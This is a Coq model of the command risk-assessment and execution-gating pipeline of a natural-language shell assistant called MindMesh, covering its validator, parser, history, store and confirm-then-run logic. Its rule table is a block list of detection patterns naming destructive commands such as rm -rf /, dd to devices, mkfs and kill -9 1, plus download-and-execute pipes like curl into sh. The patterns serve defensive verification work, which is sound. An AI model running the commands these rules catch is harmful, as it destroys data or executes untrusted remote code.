(** * MindMesh: the command risk-assessment and execution-gating pipeline

    A shallow embedding of [src/core/safety.py], [src/core/parser.py],
    [src/core/context.py], [src/storage/command_store.py] and the [ask]
    command of [src/main.py], with the properties of the design document
    stated and settled against it.

    Conventions.
    - A Python [str] is a [string]; its characters are read as the code
      points 0..255.  Python [int] is [Z], [bool] is [bool], [Optional]
      is [option], a [list] is a [list].
    - A Python [set] that is only read is a [list] giving the order in
      which that object is iterated; nothing in the source fixes that
      order, so properties quantify over it.
    - A call that may raise returns [option] ([None]: the exception
      propagates), or a sum whose left side is the exception.
    - What the outside world answers (the translation backend, the
      console, the confirmation prompts, the shell, the clock) is an
      explicit input record; what the program does to the outside world
      is a list of events.
    - Failures of the database file and of the process itself, and
      [KeyboardInterrupt], are outside the model. *)

From Stdlib Require Import ZArith QArith Ascii String List Bool Lia Permutation.
From stdpp Require Import base option list gmap strings.

Open Scope Z_scope.
Open Scope string_scope.
Open Scope list_scope.

(* ===================================================================== *)
(** ** Python string primitives *)
(* ===================================================================== *)

Module PyStr.

Definition code (c : ascii) : N := N_of_ascii c.

(** [str.isspace] on one character; also the class [\s] of [re]. *)
Definition is_space (c : ascii) : bool :=
  let n := code c in
  ((9 <=? n) && (n <=? 13) || (28 <=? n) && (n <=? 32)
   || (n =? 133) || (n =? 160))%N.

(** The class [\w] of [re] on [str] patterns: alphanumerics and [_]. *)
Definition is_word (c : ascii) : bool :=
  let n := code c in
  let between a b := ((a <=? n) && (n <=? b))%N in
  (between 48 57 || between 65 90 || (n =? 95) || between 97 122
   || (n =? 170) || between 178 179 || (n =? 181) || between 185 186
   || between 188 190 || between 192 214 || between 216 246
   || between 248 255)%N.

(** Simple lower-casing, the folding [re.IGNORECASE] compares with. *)
Definition lower (c : ascii) : ascii :=
  let n := code c in
  if ((65 <=? n) && (n <=? 90)
      || (192 <=? n) && (n <=? 222) && negb (n =? 215))%N
  then ascii_of_N (n + 32) else c.

Definition chars (s : string) : list ascii := list_ascii_of_string s.

(** [s.startswith(p)] *)
Fixpoint startswith (s p : string) : bool :=
  match p, s with
  | EmptyString, _ => true
  | String a p', String b s' => Ascii.eqb a b && startswith s' p'
  | String _ _, EmptyString => false
  end.

(** [needle in hay] *)
Fixpoint contains (hay needle : string) : bool :=
  startswith hay needle
  || match hay with
     | EmptyString => false
     | String _ hay' => contains hay' needle
     end.

(** [s.lstrip()], [s.rstrip()], [s.strip()] *)
Fixpoint lstrip (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' => if is_space c then lstrip s' else s
  end.

Fixpoint rstrip (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' =>
      match rstrip s' with
      | EmptyString => if is_space c then EmptyString else String c EmptyString
      | t => String c t
      end
  end.

Definition strip (s : string) : string := rstrip (lstrip s).

(** [s.split('\n')]: never empty, one more field than newlines. *)
Fixpoint split_lines (s : string) : list string :=
  match s with
  | EmptyString => [EmptyString]
  | String c s' =>
      if Ascii.eqb c "010"%char then EmptyString :: split_lines s'
      else match split_lines s' with
           | [] => [String c EmptyString]
           | l :: ls => String c l :: ls
           end
  end.

(** Truthiness of a [str], and [a or b] on strings. *)
Definition truthy (s : string) : bool :=
  match s with EmptyString => false | _ => true end.

Definition or_else (a b : string) : string := if truthy a then a else b.

End PyStr.

(* ===================================================================== *)
(** ** The fragment of [re] the rule table is written in *)
(* ===================================================================== *)

Module Re.

(** One character position of a pattern. *)
Inductive atom : Type :=
| Lit (c : ascii)      (* an ordinary or escaped character *)
| AnyChar              (* [.]: anything but a newline *)
| Space                (* [\s] *)
| Word.                (* [\w] *)

Inductive quant : Type :=
| Once                 (* no suffix *)
| Optional             (* [?] *)
| ZeroOrMore           (* [*] *)
| OneOrMore.           (* [+] *)

(** A pattern of the fragment is a sequence of quantified atoms: the
    rule table uses neither groups, alternation, classes nor anchors. *)
Definition regex : Type := list (atom * quant).

Inductive token : Type :=
| TAtom (a : atom)
| TQuant (q : quant).

Definition is_alnum_ascii (c : ascii) : bool :=
  let n := PyStr.code c in
  ((48 <=? n) && (n <=? 57) || (65 <=? n) && (n <=? 90)
   || (97 <=? n) && (n <=? 122))%N.

(** What follows a backslash. *)
Definition escaped (c : ascii) : option atom :=
  if Ascii.eqb c "s" then Some Space
  else if Ascii.eqb c "w" then Some Word
  else if is_alnum_ascii c then None
  else Some (Lit c).

(** Metacharacters outside the fragment. *)
Definition unsupported (c : ascii) : bool :=
  existsb (Ascii.eqb c) (PyStr.chars "^$|()[]{}").

Fixpoint lex (esc : bool) (s : list ascii) : option (list token) :=
  match s with
  | [] => if esc then None else Some []
  | c :: s' =>
      if esc then
        match escaped c with
        | Some a => cons (TAtom a) <$> lex false s'
        | None => None
        end
      else if Ascii.eqb c "\" then lex true s'
      else if Ascii.eqb c "." then cons (TAtom AnyChar) <$> lex false s'
      else if Ascii.eqb c "?" then cons (TQuant Optional) <$> lex false s'
      else if Ascii.eqb c "*" then cons (TQuant ZeroOrMore) <$> lex false s'
      else if Ascii.eqb c "+" then cons (TQuant OneOrMore) <$> lex false s'
      else if unsupported c then None
      else cons (TAtom (Lit c)) <$> lex false s'
  end.

Fixpoint pieces (ts : list token) : option regex :=
  match ts with
  | [] => Some []
  | TQuant _ :: _ => None
  | TAtom a :: ts' =>
      match ts' with
      | TQuant q :: ts'' =>
          match ts'' with
          | TQuant _ :: _ => None
          | _ => cons (a, q) <$> pieces ts''
          end
      | _ => cons (a, Once) <$> pieces ts'
      end
  end.

(** [re.compile] on the fragment; [None] for a pattern outside it. *)
Definition compile (pattern : string) : option regex :=
  lex false (PyStr.chars pattern) ≫= pieces.

Definition atom_matches (ignorecase : bool) (a : atom) (c : ascii) : bool :=
  match a with
  | Lit x =>
      if ignorecase then Ascii.eqb (PyStr.lower x) (PyStr.lower c)
      else Ascii.eqb x c
  | AnyChar => negb (Ascii.eqb c "010"%char)
  | Space => PyStr.is_space c
  | Word => PyStr.is_word c
  end.

(** Zero or more characters accepted by [ok], then [k] on the rest. *)
Fixpoint star (ok : ascii -> bool) (k : list ascii -> bool)
    (s : list ascii) : bool :=
  k s
  || match s with
     | [] => false
     | c :: s' => ok c && star ok k s'
     end.

(** Does some prefix of [s] match [r]? *)
Fixpoint match_here (ignorecase : bool) (r : regex) (s : list ascii) : bool :=
  match r with
  | [] => true
  | (a, q) :: r' =>
      let ok := atom_matches ignorecase a in
      let k := match_here ignorecase r' in
      let one s := match s with [] => false | c :: s' => ok c && k s' end in
      match q with
      | Once => one s
      | Optional => k s || one s
      | ZeroOrMore => star ok k s
      | OneOrMore =>
          match s with [] => false | c :: s' => ok c && star ok k s' end
      end
  end.

(** Does [r] match somewhere in [s]? *)
Fixpoint search_from (ignorecase : bool) (r : regex) (s : list ascii) : bool :=
  match_here ignorecase r s
  || match s with
     | [] => false
     | _ :: s' => search_from ignorecase r s'
     end.

(** [bool(re.search(pattern, text, flags))], flags being [0] or
    [re.IGNORECASE]. *)
Definition search (pattern text : string) (ignorecase : bool) : option bool :=
  r ← compile pattern; Some (search_from ignorecase r (PyStr.chars text)).

End Re.


(** *** What a pattern of the fragment means *)

Module ReSem.

(** The strings one quantified atom matches. *)
Inductive repeats (ok : ascii -> bool) : Re.quant -> list ascii -> Prop :=
| rep_once c : ok c = true -> repeats ok Re.Once [c]
| rep_none : repeats ok Re.Optional []
| rep_one c : ok c = true -> repeats ok Re.Optional [c]
| rep_star s : forallb ok s = true -> repeats ok Re.ZeroOrMore s
| rep_plus c s :
    ok c = true -> forallb ok s = true -> repeats ok Re.OneOrMore (c :: s).

(** The strings a pattern matches from its first to its last character. *)
Inductive matches (ignorecase : bool) : Re.regex -> list ascii -> Prop :=
| matches_nil : matches ignorecase [] []
| matches_cons a q r s1 s2 :
    repeats (Re.atom_matches ignorecase a) q s1 ->
    matches ignorecase r s2 ->
    matches ignorecase ((a, q) :: r) (s1 ++ s2).

(** A pattern is found in a string when it matches a substring of it. *)
Definition found (ignorecase : bool) (r : Re.regex) (s : list ascii) : Prop :=
  exists before hit after,
    s = before ++ hit ++ after /\ matches ignorecase r hit.

End ReSem.

(* ===================================================================== *)
(** ** [src/core/safety.py] *)
(* ===================================================================== *)

Module Safety.

(** [class RiskLevel(Enum)] and its [.value]. *)
Inductive RiskLevel : Type := LOW | MEDIUM | HIGH | CRITICAL.

Definition value (r : RiskLevel) : string :=
  match r with
  | LOW => "low"
  | MEDIUM => "medium"
  | HIGH => "high"
  | CRITICAL => "critical"
  end.

Definition RiskLevel_eqb (a b : RiskLevel) : bool :=
  match a, b with
  | LOW, LOW | MEDIUM, MEDIUM | HIGH, HIGH | CRITICAL, CRITICAL => true
  | _, _ => false
  end.

(** [@dataclass class RiskAssessment] *)
Record RiskAssessment : Type := mkRiskAssessment {
  risk_level : string;
  score : Z;
  warnings : list string;
  blocked_patterns : list string
}.

(** The value a pattern maps to in [dangerous_patterns]. *)
Record PatternConfig : Type := mkConfig {
  risk : RiskLevel;
  message : string
}.

(** The attributes [SafetyValidator.__init__] sets.  [dangerous_patterns]
    is a [dict]: it is iterated in insertion order.  [system_paths] and
    [destructive_commands] are [set]s: the lists give the order in which
    this object iterates them. *)
Record SafetyValidator : Type := mkValidator {
  dangerous_patterns : list (string * PatternConfig);
  system_paths : list string;
  destructive_commands : list string
}.

Definition _load_dangerous_patterns : list (string * PatternConfig) :=
  [ (* Destructive file operations *)
    ("rm\s+.*-rf?\s+/",
       mkConfig CRITICAL "Recursive deletion from root directory");
    ("rm\s+.*-rf?\s+\*",
       mkConfig HIGH "Recursive deletion with wildcard");
    ("dd\s+.*of=/dev/",
       mkConfig CRITICAL "Writing directly to device");
    (* Permission changes *)
    ("chmod\s+777",
       mkConfig HIGH "Setting world-writable permissions");
    ("chown\s+.*:.*\s+/",
       mkConfig MEDIUM "Changing ownership of system files");
    (* Network operations *)
    ("curl\s+.*\|\s*sh",
       mkConfig CRITICAL "Downloading and executing remote script");
    ("wget\s+.*\|\s*sh",
       mkConfig CRITICAL "Downloading and executing remote script");
    (* System modifications *)
    ("sudo\s+.*rm",
       mkConfig HIGH "Elevated deletion command");
    ("mkfs\s+",
       mkConfig CRITICAL "Filesystem creation (destructive)");
    (* Process manipulation *)
    ("kill\s+-9\s+1",
       mkConfig CRITICAL "Attempting to kill init process");
    ("killall\s+",
       mkConfig MEDIUM "Killing processes by name");
    (* Configuration files *)
    (">\s*/etc/",
       mkConfig HIGH "Overwriting system configuration");
    (">>\s*/etc/",
       mkConfig MEDIUM "Modifying system configuration") ].

Definition system_paths_literal : list string :=
  ["/etc"; "/usr"; "/boot"; "/sys"; "/proc"; "/dev"].

Definition destructive_commands_literal : list string :=
  ["rm"; "dd"; "mkfs"; "fdisk"; "wipefs"].

(** The validator [SafetyValidator()] builds when its two sets happen to
    be iterated in the order their literals are written. *)
Definition default_validator : SafetyValidator :=
  mkValidator _load_dangerous_patterns
              system_paths_literal destructive_commands_literal.

(** Every validator [SafetyValidator()] can build: the rule table and the
    two sets are the literals, the sets in any iteration order. *)
Definition constructed (v : SafetyValidator) : Prop :=
  dangerous_patterns v = _load_dangerous_patterns
  /\ Permutation (system_paths v) system_paths_literal
  /\ Permutation (destructive_commands v) destructive_commands_literal.

(** [_risk_level_score] *)
Definition _risk_level_score (r : RiskLevel) : Z :=
  match r with
  | LOW => 1
  | MEDIUM => 3
  | HIGH => 7
  | CRITICAL => 10
  end.

(** The six checks of [_heuristic_checks], in source order. *)
Definition chained (command : string) : bool :=
  PyStr.contains command ";" || PyStr.contains command "&&"
  || PyStr.contains command "||".

Definition redirects_to_root (command : string) : option bool :=
  Re.search ">\s*/\w+" command false.

Definition wildcard_destructive (v : SafetyValidator) (command : string) : bool :=
  PyStr.contains command "*"
  && existsb (fun cmd => PyStr.contains command cmd) (destructive_commands v).

Definition elevated (command : string) : bool :=
  PyStr.startswith (PyStr.strip command) "sudo".

(** [for path in self.system_paths: if path in command: ...; break] *)
Definition first_system_path (v : SafetyValidator) (command : string)
  : option string :=
  List.find (fun path => PyStr.contains command path) (system_paths v).

Definition suspicious_chars : list string :=
  ["`"; "$("; "${"; "$("; "||"; "&&"].

Definition suspicious (command : string) : bool :=
  existsb (fun char => PyStr.contains command char) suspicious_chars.

Definition when (b : bool) (w : string) : list string :=
  if b then [w] else [].

Definition _heuristic_checks (v : SafetyValidator) (command : string)
  : option (list string) :=
  redirect ← redirects_to_root command;
  Some (when (chained command) "Command contains multiple operations"
        ++ when redirect "Redirecting output to root-level directory"
        ++ when (wildcard_destructive v command)
                "Using wildcards with destructive commands"
        ++ when (elevated command) "Command requires elevated privileges"
        ++ match first_system_path v command with
           | Some path => ["Operating on system directory: " +:+ path]
           | None => []
           end
        ++ when (suspicious command)
                "Command contains potentially suspicious characters").

(** The locals of [validate] that its first loop updates. *)
Record Scan : Type := mkScan {
  s_warnings : list string;
  s_blocked : list string;
  s_max_risk : RiskLevel;
  s_score : Z
}.

Definition scan_init : Scan := mkScan [] [] LOW 0.

(** One iteration of [for pattern, config in self.dangerous_patterns.items()]. *)
Definition scan_step (command : string) (st : Scan)
    (entry : string * PatternConfig) : option Scan :=
  let '(pattern, config) := entry in
  found ← Re.search pattern command true;
  Some (if found : bool then
          mkScan (s_warnings st ++ [message config])
                 (s_blocked st ++ [pattern])
                 (if (_risk_level_score (risk config)
                      >? _risk_level_score (s_max_risk st))%Z
                  then risk config else s_max_risk st)
                 (s_score st + _risk_level_score (risk config) * 10)
        else st).

Fixpoint scan_patterns (command : string)
    (table : list (string * PatternConfig)) (st : Scan) : option Scan :=
  match table with
  | [] => Some st
  | entry :: table' =>
      st' ← scan_step command st entry; scan_patterns command table' st'
  end.

(** [SafetyValidator.validate] *)
Definition validate (v : SafetyValidator) (command : string)
  : option RiskAssessment :=
  st ← scan_patterns command (dangerous_patterns v) scan_init;
  additional_warnings ← _heuristic_checks v command;
  let warnings := s_warnings st ++ additional_warnings in
  let score := s_score st + Z.of_nat (length additional_warnings) * 5 in
  let final_risk :=
    if (score >=? 80)%Z then CRITICAL
    else if (score >=? 60)%Z then HIGH
    else if (score >=? 30)%Z then MEDIUM
    else if negb (RiskLevel_eqb (s_max_risk st) LOW) then s_max_risk st
         else LOW in
  Some (mkRiskAssessment (value final_risk) (Z.min score 100)
                         warnings (s_blocked st)).

(** [SafetyValidator.is_command_blocked] *)
Definition is_command_blocked (v : SafetyValidator) (command : string)
  : option bool :=
  assessment ← validate v command;
  Some (String.eqb (risk_level assessment) (value CRITICAL)
        && (score assessment >=? 90)%Z).

End Safety.

(* ===================================================================== *)
(** ** [src/core/parser.py] *)
(* ===================================================================== *)

Module Parser.

(** [@dataclass class ParseResult].  A [float] literal is kept as the
    decimal fraction the source writes. *)
Record ParseResult : Type := mkParseResult {
  command : string;
  explanation : string;
  risk_level : string;
  confidence : Q;
  alternatives : list string;
  warnings : list string
}.

(** What [self.llm_service.generate_response(messages)] does. *)
Inductive Generated : Type :=
| Response (text : string)
| GenerateRaised.

(** The keys [parse] reads from a decoded object, [None] for a key that
    is absent; the values carry the types [ParseResult] declares. *)
Record Fields : Type := mkFields {
  f_command : option string;
  f_explanation : option string;
  f_risk_level : option string;
  f_confidence : option Q;
  f_alternatives : option (list string);
  f_warnings : option (list string)
}.

(** What [json.loads(response)] does with the response. *)
Inductive Loaded : Type :=
| JSONDecodeError             (* raises it: the response is not JSON *)
| LoadRaised                  (* raises another exception: [RecursionError]
                                 on deep nesting, [ValueError] on an
                                 integer of more than 4300 digits *)
| Object (fields : Fields)    (* returns a [dict] *)
| NotAnObject.                (* returns another value: [.get] raises *)

(** The loop of [_fallback_parse]. *)
Fixpoint first_command_line (lines : list string) : option string :=
  match lines with
  | [] => None
  | line :: lines' =>
      let line := PyStr.strip line in
      if PyStr.truthy line && negb (PyStr.startswith line "#")
         && negb (PyStr.startswith line "//")
      then Some line
      else first_command_line lines'
  end.

(** [IntentParser._fallback_parse] *)
Definition _fallback_parse (response query : string) : option ParseResult :=
  let lines := PyStr.split_lines (PyStr.strip response) in
  match first_command_line lines with
  | Some line =>
      Some (mkParseResult line
              ("Generated command for: " +:+ query)
              "medium"
              (6 # 10)
              []
              ["Fallback parsing used - please verify command"])
  | None => None
  end.

(** [IntentParser.parse], from the reply of the backend on. *)
Definition parse (generated : Generated) (loaded : Loaded) (query : string)
  : option ParseResult :=
  match generated with
  | GenerateRaised => None
  | Response response =>
      match loaded with
      | Object d =>
          Some (mkParseResult
                  (default "" (f_command d))
                  (default "" (f_explanation d))
                  (default "medium" (f_risk_level d))
                  (default (8 # 10) (f_confidence d))
                  (default [] (f_alternatives d))
                  (default [] (f_warnings d)))
      | JSONDecodeError => _fallback_parse response query
      | LoadRaised => None
      | NotAnObject => None
      end
  end.

End Parser.

(* ===================================================================== *)
(** ** [src/core/context.py] *)
(* ===================================================================== *)

Module Context.

(** [@dataclass class HistoryItem]; a [datetime] is a clock reading. *)
Record HistoryItem : Type := mkHistoryItem {
  query : string;
  command : string;
  timestamp : Z;
  executed : bool
}.

(** The attributes of [ContextManager] the pipeline writes. *)
Record ContextManager : Type := mkContextManager {
  max_history : Z;
  history : list HistoryItem
}.

(** The slice [l[-n:]]. *)
Definition last_slice {A : Type} (n : Z) (l : list A) : list A :=
  let len := Z.of_nat (length l) in
  let start := if (- n <? 0)%Z then Z.max (len - n) 0 else Z.min (- n) len in
  drop (Z.to_nat start) l.

(** [ContextManager.add_interaction]; [now] is [datetime.now()]. *)
Definition add_interaction (cm : ContextManager) (query command : string)
    (now : Z) (executed : bool) : ContextManager :=
  let item := mkHistoryItem query command now executed in
  let history := history cm ++ [item] in
  mkContextManager (max_history cm)
    (if (Z.of_nat (length history) >? max_history cm)%Z
     then last_slice (max_history cm) history
     else history).

(** [ContextManager.add_to_history] *)
Definition add_to_history (cm : ContextManager) (query command : string)
    (now : Z) (executed : bool) : ContextManager :=
  add_interaction cm query command now executed.

(** [ContextManager()] *)
Definition new : ContextManager := mkContextManager 50 [].

End Context.

(* ===================================================================== *)
(** ** [src/storage/command_store.py] *)
(* ===================================================================== *)

Module Store.

(** A row of the table [commands], without its primary key. *)
Record Row : Type := mkRow {
  command : string;
  query : string;
  explanation : string;
  risk_level : string;
  timestamp : Z;
  executed : bool;
  success : bool;
  output : string
}.

(** The table [commands], keyed by its primary key [id], and the largest
    id [AUTOINCREMENT] has handed out. *)
Record CommandStore : Type := mkStore {
  commands : gmap Z Row;
  sequence : Z
}.

Definition empty : CommandStore := mkStore ∅ 0.

(** [@dataclass class StoredCommand] *)
Record StoredCommand : Type := mkStoredCommand {
  sc_id : Z;
  sc_command : string;
  sc_query : string;
  sc_explanation : string;
  sc_risk_level : string;
  sc_timestamp : Z;
  sc_executed : bool;
  sc_success : bool;
  sc_output : string
}.


(** The integers SQLite's [INTEGER] holds. *)
Definition int64 (n : Z) : bool :=
  ((- 2 ^ 63 <=? n) && (n <=? 2 ^ 63 - 1))%Z.

(** [CommandStore.store_command]; [now] is [CURRENT_TIMESTAMP].  Returns
    the store and [cursor.lastrowid]. *)
Definition store_command (db : CommandStore) (command query explanation
    risk_level : string) (executed success : bool) (output : string)
    (now : Z) : CommandStore * Z :=
  let id := sequence db + 1 in
  (mkStore (<[id := mkRow command query explanation risk_level now
                          executed success output]> (commands db)) id,
   id).



(** [CommandStore.get_command] *)
Definition get_command (db : CommandStore) (command_id : Z)
  : option StoredCommand :=
  match commands db !! command_id with
  | Some row =>
      Some (mkStoredCommand command_id
              (command row) (query row)
              (PyStr.or_else (explanation row) "")
              (PyStr.or_else (risk_level row) "low")
              (timestamp row)
              (executed row) (success row)
              (PyStr.or_else (output row) ""))
  | None => None
  end.

End Store.

(* ===================================================================== *)
(** ** [src/main.py] *)
(* ===================================================================== *)

Module Main.

(** The module-level objects [ask] works on. *)
Record App : Type := mkApp {
  safety_validator : Safety.SafetyValidator;
  command_store : Store.CommandStore;
  context_manager : Context.ContextManager
}.

(** The parameters of [ask]. *)
Record Args : Type := mkArgs {
  query : string;
  execute : bool;
  explain : bool;
  context : bool;
  dry_run : bool
}.

(** What [subprocess.run(command, shell=True, ..., timeout=30)] does. *)
Inductive RunOutcome : Type :=
| Completed (returncode : Z) (stdout stderr : string)
| TimeoutExpired
| RunRaised (e : string).

(** What [ask] and [_execute_command] hand to [console.print] with a
    content that is not fixed text of the source. *)
Inductive Shown : Type :=
| Markup (text : string)                  (* [console.print(text)] *)
| CommandPanel (command : string)         (* the panel "Generated Command" *)
| WarningLine (warning : string)          (* the bullet line of a warning *)
| AlternativesTable (rows : list string). (* the table "Alternative Commands" *)

(** What [Confirm.ask] does once it has put its prompt: it returns the
    answer, or raises ([EOFError], when the input has ended); [e] is
    [str] of the exception. *)
Inductive Answer : Type :=
| Answered (answer : bool)
| PromptRaised (e : string).

(** What the outside world answers during one call of [ask].
    [console s] is what [console.print] does with [s]: [None] when it
    returns, [Some e] when it raises an exception [e], given by [str(e)]
    (the console raises [MarkupError] on a text with a closing tag that
    closes nothing).  The fixed texts of the source are well-formed
    markup, and printing them returns.  Then the result of
    [intent_parser.parse], [str] of the exception [validate] raises if it
    raises, what each of the two prompts does, the fate of the shell
    command, and the three clock readings. *)
Record World : Type := mkWorld {
  console : Shown -> option string;
  parsed : option Parser.ParseResult;
  validate_error : string;
  confirm_execute : Answer;
  confirm_critical : Answer;
  run : RunOutcome;
  now_store : Z;
  now_interaction : Z;
  now_history : Z
}.

(** What [ask] does to the outside world: the prompts it puts, answered
    or not, the shell commands it starts, and the messages of its
    execution logic and of [_execute_command].  The display of the query,
    the command, its explanation, the risk level and the alternatives,
    and the error line of the exception handler, are not traced. *)
Inductive Event : Type :=
| Printed (text : string)
| Asked (prompt : string) (answer : bool)
| Unanswered (prompt : string)
| Ran (command : string) (timeout : Z).

(** How [ask] ends: it returns, it raises [typer.Exit(code)], or another
    exception [e] leaves it. *)
Inductive Status : Type :=
| Returned
| Exited (code : Z)
| Raised (e : string).

(** A piece of the program that acts on the outside world: the events it
    leaves, and the exception it raises or the value it returns. *)
Definition Action (A : Type) : Type := list Event * (string + A).

#[global] Instance Action_ret : MRet Action := fun A a => ([], inr a).

#[global] Instance Action_bind : MBind Action := fun A B k m =>
  match m with
  | (events, inl e) => (events, inl e)
  | (events, inr a) => let '(events', r) := k a in (events ++ events', r)
  end.

Definition raise {A : Type} (e : string) : Action A := ([], inl e).

Definition emit (event : Event) : Action unit := ([event], inr tt).

(** [try: body except Exception as e: handler] *)
Definition catch {A : Type} (body : Action A) (handler : string -> Action A)
  : Action A :=
  match body with
  | (events, inl e) => let '(events', r) := handler e in (events ++ events', r)
  | (events, inr a) => (events, inr a)
  end.

(** [console.print] of a fixed text. *)
Definition say (text : string) : Action unit := emit (Printed text).

(** [console.print] of something else. *)
Definition show (console : Shown -> option string) (s : Shown) : Action unit :=
  match console s with
  | Some e => raise e
  | None => mret tt
  end.

Fixpoint show_all (console : Shown -> option string) (l : list Shown)
  : Action unit :=
  match l with
  | [] => mret tt
  | s :: l' => show console s ;; show_all console l'
  end.

(** [console.print(text)] of a text that is traced. *)
Definition print (console : Shown -> option string) (text : string)
  : Action unit :=
  show console (Markup text) ;; say text.

(** [Confirm.ask(prompt, default=False)] *)
Definition confirm (prompt : string) (a : Answer) : Action bool :=
  match a with
  | Answered answer => ([Asked prompt answer], inr answer)
  | PromptRaised e => ([Unanswered prompt], inl e)
  end.

Definition execute_prompt : string := "Execute this command?".

Definition critical_prompt : string :=
  "[bold red]This is a CRITICAL risk command. Are you absolutely sure?[/bold red]".

Definition execution_error (e : string) : string :=
  "[red]Execution error: " +:+ e +:+ "[/red]".

(** [_execute_command] *)
Definition _execute_command (console : Shown -> option string)
    (command : string) (outcome : RunOutcome) : Action bool :=
  emit (Ran command 30) ;;
  match outcome with
  | Completed returncode stdout stderr =>
      catch
        ((if PyStr.truthy stdout
          then say "[green]Output:[/green]" ;; print console stdout
          else mret tt) ;;
         (if PyStr.truthy stderr
          then say "[red]Error:[/red]" ;; print console stderr
          else mret tt) ;;
         mret (returncode =? 0)%Z)
        (fun e => print console (execution_error e) ;; mret false)
  | TimeoutExpired =>
      say "[red]Command timed out[/red]" ;; mret false
  | RunRaised e =>
      print console (execution_error e) ;; mret false
  end.

(** The first line of [ask]. *)
Definition processing (args : Args) : Shown :=
  Markup ("[bold blue]Processing:[/bold blue] " +:+ query args).

Definition explanation_line (result : Parser.ParseResult) : Shown :=
  Markup ("[bold yellow]Explanation:[/bold yellow] "
          +:+ Parser.explanation result).

(** [risk_assessment.risk_level in ["high", "critical"]] *)
Definition high_or_critical (risk_level : string) : bool :=
  String.eqb risk_level "high" || String.eqb risk_level "critical".

(** [ask], from the display of the command to the alternatives: the
    command, its explanation, the assessment and its warnings, the
    alternatives. *)
Definition display (app : App) (args : Args) (w : World)
    (result : Parser.ParseResult) : Action Safety.RiskAssessment :=
  show (console w) (CommandPanel (Parser.command result)) ;;
  (if explain args && PyStr.truthy (Parser.explanation result)
   then show (console w) (explanation_line result)
   else mret tt) ;;
  risk_assessment ←
    match Safety.validate (safety_validator app) (Parser.command result) with
    | Some risk_assessment => mret risk_assessment
    | None => raise (validate_error w)
    end;
  (if high_or_critical (Safety.risk_level risk_assessment)
   then show_all (console w)
          (map WarningLine (Safety.warnings risk_assessment))
   else mret tt) ;;
  match Parser.alternatives result with
  | [] => mret tt
  | alternatives => show (console w) (AlternativesTable (take 3 alternatives))
  end ;;
  mret risk_assessment.

(** [ask], its execution logic: the decision, the second confirmation of
    a Critical command, the run and what is recorded of it. *)
Definition execution_logic (app : App) (args : Args) (w : World)
    (result : Parser.ParseResult) (risk_assessment : Safety.RiskAssessment)
  : Action App :=
  let history_entry (app : App) (should_execute : bool) : App :=
    mkApp (safety_validator app) (command_store app)
      (Context.add_to_history (context_manager app) (query args)
         (Parser.command result) (now_history w) should_execute) in
  should_execute ←
    (if dry_run args then
       say "[yellow]Dry run mode - command not executed[/yellow]" ;; mret false
     else if execute args then mret true
     else confirm execute_prompt (confirm_execute w));
  if should_execute : bool then
    sure ←
      (if String.eqb (Safety.risk_level risk_assessment) "critical"
       then confirm critical_prompt (confirm_critical w)
       else mret true);
    if sure : bool then
      say "[bold green]Executing...[/bold green]" ;;
      success ← _execute_command (console w) (Parser.command result) (run w);
      let app' :=
        if success : bool then
          mkApp (safety_validator app)
            (fst (Store.store_command (command_store app)
                    (Parser.command result) (query args)
                    (Parser.explanation result)
                    (Safety.risk_level risk_assessment)
                    false false "" (now_store w)))
            (Context.add_interaction (context_manager app)
               (query args) (Parser.command result)
               (now_interaction w) false)
        else app in
      mret (history_entry app' true)
    else
      say "[yellow]Command execution cancelled[/yellow]" ;; mret app
  else mret (history_entry app false).

Definition error_line (e : string) : Shown :=
  Markup ("[red]Error: " +:+ e +:+ "[/red]").

(** [ask].  The first line is printed outside the [try]; the handler of
    the [try] prints the exception and raises [typer.Exit(1)], which is
    also how the [typer.Exit(1)] raised for a missing command ends. *)
Definition ask (app : App) (args : Args) (w : World)
  : App * list Event * Status :=
  match console w (processing args) with
  | Some e => (app, [], Raised e)
  | None =>
      match parsed w with
      | None =>
          (app, [Printed "[red]Failed to generate command[/red]"], Exited 1)
      | Some result =>
          match (risk_assessment ← display app args w result;
                 execution_logic app args w result risk_assessment) with
          | (events, inr app') => (app', events, Returned)
          | (events, inl e) =>
              (app, events,
               match console w (error_line e) with
               | Some e' => Raised e'
               | None => Exited 1
               end)
          end
      end
  end.

End Main.

(* ===================================================================== *)
(** ** The scoring rule as the design document words it *)
(* ===================================================================== *)

Module SafetySpec.
Import Safety.

(** Severity weights: Low=1, Medium=3, High=7, Critical=10. *)
Definition weight (r : RiskLevel) : Z :=
  match r with LOW => 1 | MEDIUM => 3 | HIGH => 7 | CRITICAL => 10 end.

(** A rule matches when its pattern is found in the command, ignoring
    case. *)
Definition matches (command : string) (entry : string * PatternConfig) : bool :=
  default false (Re.search (fst entry) command true).

(** Every rule that matches, in table order. *)
Definition matched_rules (v : SafetyValidator) (command : string)
  : list (string * PatternConfig) :=
  List.filter (matches command) (dangerous_patterns v).

Definition severities (v : SafetyValidator) (command : string) : list RiskLevel :=
  map (fun entry => risk (snd entry)) (matched_rules v command).

Fixpoint total (l : list Z) : Z :=
  match l with
  | [] => 0
  | x :: l' => x + total l'
  end.

(** [weight(severity) * 10], summed over the matched rules. *)
Definition pattern_points (v : SafetyValidator) (command : string) : Z :=
  total (map (fun r => weight r * 10) (severities v command)).

(** Which of the six heuristic checks fire. *)
Definition fired (v : SafetyValidator) (command : string) : list bool :=
  [ chained command;
    default false (redirects_to_root command);
    wildcard_destructive v command;
    elevated command;
    bool_decide (is_Some (first_system_path v command));
    suspicious command ].

Definition fired_count (v : SafetyValidator) (command : string) : Z :=
  Z.of_nat (length (List.filter id (fired v command))).


Definition has (r : RiskLevel) (l : list RiskLevel) : bool :=
  existsb (RiskLevel_eqb r) l.

(** The largest severity in [l], or Low when [l] is empty. *)
Definition max_severity (l : list RiskLevel) : RiskLevel :=
  if has CRITICAL l then CRITICAL
  else if has HIGH l then HIGH
  else if has MEDIUM l then MEDIUM
  else LOW.


End SafetySpec.

(** A validator whose every pattern lies in the modelled fragment of
    [re], so that no [re.search] raises. *)
Definition well_formed (v : Safety.SafetyValidator) : bool :=
  forallb (fun entry => bool_decide (is_Some (Re.compile (fst entry))))
          (Safety.dangerous_patterns v).

(** A rule table with three Medium rules, in the format of the shipped
    one, and a validator over it. *)
Definition three_medium_rules : list (string * Safety.PatternConfig) :=
  [ ("chown\s+.*:.*\s+/",
       Safety.mkConfig Safety.MEDIUM "Changing ownership of system files");
    ("killall\s+",
       Safety.mkConfig Safety.MEDIUM "Killing processes by name");
    ("pkill\s+",
       Safety.mkConfig Safety.MEDIUM "Killing processes by pattern") ].

